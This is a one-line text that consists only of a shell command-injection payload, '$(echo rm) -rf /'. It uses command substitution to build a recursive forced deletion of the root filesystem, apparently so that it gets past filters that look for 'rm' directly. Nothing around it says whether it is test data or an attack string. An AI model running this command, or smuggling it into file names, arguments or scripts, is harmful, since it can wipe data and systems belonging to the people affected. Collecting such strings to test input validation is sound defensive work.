$(echo rm) -rf /
